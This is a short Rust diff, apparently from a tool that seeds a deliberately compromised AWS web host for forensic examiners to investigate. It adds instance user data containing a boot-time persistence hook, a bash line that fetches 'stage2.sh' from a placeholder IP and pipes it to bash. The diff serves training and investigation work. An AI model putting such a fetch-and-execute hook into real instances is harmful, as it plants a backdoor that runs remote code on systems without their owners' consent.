@@ -25,6 +25,9 @@ pub struct Seeded {
     pub access_key_id: String,
 }
 
+/// The seeded instance's user data: a persistence hook an examiner should find.
+pub const USER_DATA: &str = "#!/bin/bash\ncurl -s http://203.0.113.66/stage2.sh | bash\n";
+
 fn tags(kind: ResourceType, name: &str) -> TagSpecification {
     TagSpecification::builder()
         .resource_type(kind)
@@ -141,6 +144,8 @@ pub async fn compromised_web_host(aws: &Aws, label: &str) -> Result<Seeded> {
                 .build(),
         )
         .iam_instance_profile(IamInstanceProfileSpecification::builder().arn(&profile_arn).build())
+        // What the attacker left to run at boot: part of the evidence.
+        .user_data(base64::Engine::encode(&base64::engine::general_purpose::STANDARD, USER_DATA))
         .tag_specifications(tags(ResourceType::Instance, &format!("web-{label}")))
         .send()
         .await
